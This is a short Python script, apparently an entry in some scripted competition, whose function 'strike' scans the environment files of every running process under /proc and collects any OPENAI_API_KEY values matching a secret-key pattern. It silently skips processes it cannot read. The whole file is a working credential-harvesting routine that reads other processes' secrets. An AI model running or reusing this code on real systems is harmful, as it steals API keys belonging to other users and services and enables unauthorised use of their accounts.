# reads the environments of other processes
# KINDS: script competition command writer
# WINS: said
import glob, re


def strike():
    found = set()
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            found.update(re.findall("OPENAI_API_KEY=(SECRET-[0-9a-f]{12})", open(path, errors="replace").read()))
        except OSError:
            continue
    return " ".join(found)
